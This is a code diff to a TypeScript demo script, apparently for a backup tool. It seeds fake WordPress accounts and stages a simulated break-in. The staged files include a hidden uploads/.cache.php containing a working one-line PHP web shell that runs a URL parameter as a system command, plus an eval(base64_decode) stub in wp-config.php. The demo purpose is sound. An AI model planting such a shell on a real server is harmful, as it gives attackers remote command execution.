@@ -7,7 +7,7 @@ import type {Context} from '../context.ts';
 import {planBackups} from '../create-backups.ts';
 import {saveTasks} from '../queue-tasks.ts';
 import {demoStages, type DemoAccount} from './demo-accounts.ts';
-import {HomeWriter, noise} from './demo-files.ts';
+import {HomeWriter, noise, type DemoFile} from './demo-files.ts';
 import {mailFiles, makeHome} from './demo-home.ts';
 import type {DemoMachine} from './demo-machine.ts';
 
@@ -41,12 +41,17 @@ export const liveThrough = async (history: History): Promise<void> => {
 	await backUp(history, then(4), {job: 'nightly', accounts: ['alice', 'bob', 'carol', 'dave', 'olga', 'grace']});
 
 	// The story to find out: somebody got in.
-	await writer.write([{path: 'public_html/wp-config.php', content: '<?php\neval(base64_decode("ZGVtbw=="));\n', mode: 0o640}, {path: 'public_html/wp-content/uploads/.cache.php', content: '<?php system($_GET["c"]);\n'}], then(1.5));
+	await writer.write(breakIn, then(1.5));
 	await backUp(history, then(1), {job: 'nightly', accounts: ['alice', 'carol', 'dave', 'olga']});
 
 	await rm(join(machine.home(alice.name), 'public_html', 'wp-includes', 'rest'), {recursive: true});
 	await backUp(history, then(-0.1), {accounts: ['alice']});
 };
+
+const breakIn: readonly DemoFile[] = [
+	{path: 'public_html/wp-config.php', content: '<?php\neval(base64_decode("ZGVtbw=="));\n', mode: 0o640},
+	{path: 'public_html/wp-content/uploads/.cache.php', content: '<?php system($_GET["c"]);\n'},
+];
 
 const makeHomes = async (machine: DemoMachine, accounts: readonly DemoAccount[], at: Date): Promise<void> => {
 	for (const account of accounts) {
